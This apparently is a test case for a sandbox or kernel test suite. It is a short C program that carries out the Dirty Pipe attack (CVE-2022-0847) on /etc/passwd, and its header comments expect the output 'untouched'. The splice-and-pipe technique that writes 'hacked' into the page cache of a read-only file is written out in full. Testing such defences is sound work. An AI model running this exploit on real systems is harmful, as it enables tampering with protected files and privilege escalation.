//! attack: writes into the page cache of a file that it may only read, by splice and a pipe (CVE-2022-0847); the file stays
//! status: exited
//! stdout: untouched
//! quick: yes
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(void)
{
    static char block[4096];
    char before[16] = "", after[16] = "";
    int ends[2];
    const int file = open("/etc/passwd", O_RDONLY);
    if (file < 0 || pipe(ends) < 0)
        return puts("no file") < 0;
    pread(file, before, sizeof before, 0);
    /* fill and empty the pipe, so that each of its buffers may be merged into */
    const int room = fcntl(ends[1], F_GETPIPE_SZ);
    for (int at = 0; at < room; at += (int)sizeof block)
        (void)!write(ends[1], block, sizeof block);
    for (int at = 0; at < room; at += (int)sizeof block)
        (void)!read(ends[0], block, sizeof block);
    off64_t from = 0;
    splice(file, &from, ends[1], NULL, 1, 0);
    (void)!write(ends[1], "hacked", 6);
    pread(file, after, sizeof after, 0);
    return puts(memcmp(before, after, sizeof before) == 0 ? "untouched" : "the file changed") < 0;
}
